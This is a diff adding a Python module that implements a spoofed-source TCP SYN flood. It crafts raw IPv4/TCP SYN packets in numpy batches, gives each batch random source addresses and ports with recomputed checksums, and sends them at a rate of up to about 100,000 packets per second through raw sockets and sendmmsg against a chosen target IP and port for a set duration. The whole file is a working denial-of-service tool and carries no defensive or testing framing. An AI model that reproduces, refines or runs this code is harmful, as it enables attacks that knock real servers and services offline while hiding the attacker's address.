@@ -0,0 +1,168 @@
+import ctypes
+import ctypes.util
+import socket
+import time
+
+import numpy as np
+
+# 20-byte IPv4 header followed by a 20-byte TCP header with no options.
+# Fields the kernel fills for IPPROTO_RAW sockets (IP id, IP checksum) are
+# left at zero.
+SYN_DTYPE = np.dtype([
+    ('ver_ihl', 'u1'), ('tos', 'u1'), ('tot_len', '>u2'), ('ip_id', '>u2'), ('frag', '>u2'),
+    ('ttl', 'u1'), ('proto', 'u1'), ('ip_csum', '>u2'), ('src', '>u4'), ('dst', '>u4'),
+    ('sport', '>u2'), ('dport', '>u2'), ('seq', '>u4'), ('ack', '>u4'),
+    ('data_off', 'u1'), ('flags', 'u1'), ('window', '>u2'), ('tcp_csum', '>u2'), ('urgent', '>u2'),
+])
+
+TCP_SYN = 0x02
+DEFAULT_BATCH = 256
+
+
+class _IoVec(ctypes.Structure):
+    _fields_ = [('iov_base', ctypes.c_void_p), ('iov_len', ctypes.c_size_t)]
+
+
+class _MsgHdr(ctypes.Structure):
+    _fields_ = [
+        ('msg_name', ctypes.c_void_p), ('msg_namelen', ctypes.c_uint32),
+        ('msg_iov', ctypes.POINTER(_IoVec)), ('msg_iovlen', ctypes.c_size_t),
+        ('msg_control', ctypes.c_void_p), ('msg_controllen', ctypes.c_size_t),
+        ('msg_flags', ctypes.c_int),
+    ]
+
+
+class _MMsgHdr(ctypes.Structure):
+    _fields_ = [('msg_hdr', _MsgHdr), ('msg_len', ctypes.c_uint)]
+
+
+class _SockAddrIn(ctypes.Structure):
+    _fields_ = [('sin_family', ctypes.c_ushort), ('sin_port', ctypes.c_uint16),
+                ('sin_addr', ctypes.c_uint8 * 4), ('sin_zero', ctypes.c_uint8 * 8)]
+
+
+def _load_sendmmsg():
+    libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
+    sendmmsg = getattr(libc, 'sendmmsg', None)
+    if sendmmsg is not None:
+        sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
+        sendmmsg.restype = ctypes.c_int
+    return sendmmsg
+
+
+class SynBatch:
+    # A batch of SYN packets in one contiguous buffer. Only the source
+    # address, source port and TCP checksum change between batches, so they
+    # are patched in place with vectorized operations.
+
+    def __init__(self, target_ip, target_port, size=DEFAULT_BATCH, seq=1000, seed=None):
+        self.packets = np.zeros(size, dtype=SYN_DTYPE)
+        self.packets['ver_ihl'] = 0x45
+        self.packets['tot_len'] = SYN_DTYPE.itemsize
+        self.packets['ttl'] = 64
+        self.packets['proto'] = socket.IPPROTO_TCP
+        self.packets['dst'] = int.from_bytes(socket.inet_aton(target_ip), 'big')
+        self.packets['dport'] = target_port
+        self.packets['seq'] = seq
+        self.packets['data_off'] = 5 << 4
+        self.packets['flags'] = TCP_SYN
+        self.packets['window'] = 8192
+        self.rng = np.random.default_rng(seed)
+
+        # Everything the TCP checksum covers except the randomised fields:
+        # pseudo-header dst/proto/length and the fixed TCP header words.
+        dst = int(self.packets['dst'][0])
+        self.checksum_base = ((dst >> 16) + (dst & 0xffff) + socket.IPPROTO_TCP + 20 +
+                              target_port + (seq >> 16) + (seq & 0xffff) +
+                              ((5 << 12) | TCP_SYN) + 8192)
+
+    def randomise(self):
+        src = self.rng.integers(0x01000000, 0xe0000000, size=len(self.packets), dtype=np.uint64)
+        sport = self.rng.integers(1024, 65536, size=len(self.packets), dtype=np.uint64)
+        total = self.checksum_base + (src >> 16) + (src & 0xffff) + sport
+        total = (total & 0xffff) + (total >> 16)
+        total = (total & 0xffff) + (total >> 16)
+        self.packets['src'] = src
+        self.packets['sport'] = sport
+        self.packets['tcp_csum'] = ~total & 0xffff
+
+
+class RawSender:
+    # One IPPROTO_RAW socket for the whole run. Batches go out with a single
+    # sendmmsg() call where libc provides it, otherwise one sendto() each.
+
+    def __init__(self, target_ip, batch):
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        self.target = (target_ip, 0)
+        self.batch = batch
+        self.sendmmsg = _load_sendmmsg()
+        if self.sendmmsg is None:
+            return
+
+        size = len(batch.packets)
+        itemsize = SYN_DTYPE.itemsize
+        base = batch.packets.ctypes.data
+        self.addr = _SockAddrIn(socket.AF_INET, 0, (ctypes.c_uint8 * 4)(*socket.inet_aton(target_ip)))
+        self.iovecs = (_IoVec * size)(*[_IoVec(base + i * itemsize, itemsize) for i in range(size)])
+        self.msgs = (_MMsgHdr * size)()
+        for i in range(size):
+            hdr = self.msgs[i].msg_hdr
+            hdr.msg_name = ctypes.addressof(self.addr)
+            hdr.msg_namelen = ctypes.sizeof(self.addr)
+            hdr.msg_iov = ctypes.pointer(self.iovecs[i])
+            hdr.msg_iovlen = 1
+
+    def send(self, count):
+        if self.sendmmsg is None:
+            data = self.batch.packets.tobytes()
+            itemsize = SYN_DTYPE.itemsize
+            for i in range(count):
+                self.sock.sendto(data[i * itemsize:(i + 1) * itemsize], self.target)
+            return count
+        sent = 0
+        while sent < count:
+            n = self.sendmmsg(self.sock.fileno(), ctypes.addressof(self.msgs) + sent * ctypes.sizeof(_MMsgHdr),
+                              count - sent, 0)
+            if n < 0:
+                raise OSError(ctypes.get_errno(), "sendmmsg failed")
+            sent += n
+        return sent
+
+    def close(self):
+        self.sock.close()
+
+
+def raw_syn_flood(target_ip, target_port, duration=100, rate=100000, batch_size=DEFAULT_BATCH, delay=20):
+    time.sleep(delay)
+    batch = SynBatch(target_ip, target_port, batch_size)
+    sender = RawSender(target_ip, batch)
+
+    # Token bucket: tokens accrue at `rate` per second and are spent one per
+    # packet; the bucket holds at most one batch so bursts stay short. Sends
+    # wait for about a millisecond's worth of tokens to amortise the syscall.
+    min_send = max(1, min(batch_size, int(rate / 1000)))
+    tokens = 0.0
+    packet_count = 0
+    start_time = time.monotonic()
+    last = start_time
+    try:
+        while True:
+            now = time.monotonic()
+            if now - start_time >= duration:
+                break
+            tokens = min(float(batch_size), tokens + (now - last) * rate)
+            last = now
+            count = int(tokens)
+            if count < min_send:
+                time.sleep((min_send - tokens) / rate)
+                continue
+            batch.randomise()
+            packet_count += sender.send(count)
+            tokens -= count
+    finally:
+        sender.close()
+
+    elapsed = time.monotonic() - start_time
+    print(f"[SYN Flood] Sent {packet_count} SYN packets in {elapsed:.1f} seconds "
+          f"({packet_count / elapsed:.0f} pps).")
+    return packet_count